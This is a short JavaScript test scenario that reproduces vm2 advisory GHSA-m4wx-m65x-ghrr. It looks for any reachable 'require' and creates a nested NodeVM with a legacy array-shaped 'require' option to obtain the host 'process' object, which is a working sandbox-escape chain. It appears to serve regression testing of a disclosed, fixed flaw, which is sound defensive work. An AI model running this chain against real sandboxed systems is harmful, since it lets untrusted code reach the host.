// Source: vm2 advisory GHSA-m4wx-m65x-ghrr (test/ghsa/GHSA-m4wx-m65x-ghrr/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2 (supersedes GHSA-8hg8)): a truthy `nesting` with a non-object `require` option (legacy array shape) still injected the vm2 builtin.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require('vm2') with the legacy array-shaped require option.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    const { NodeVM } = req('vm2'); const inner = new NodeVM({ nesting: true, require: ['child_process'] }); __wr.use(inner.run('module.exports = process', 'inner.js'), 'process from an inner NodeVM');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
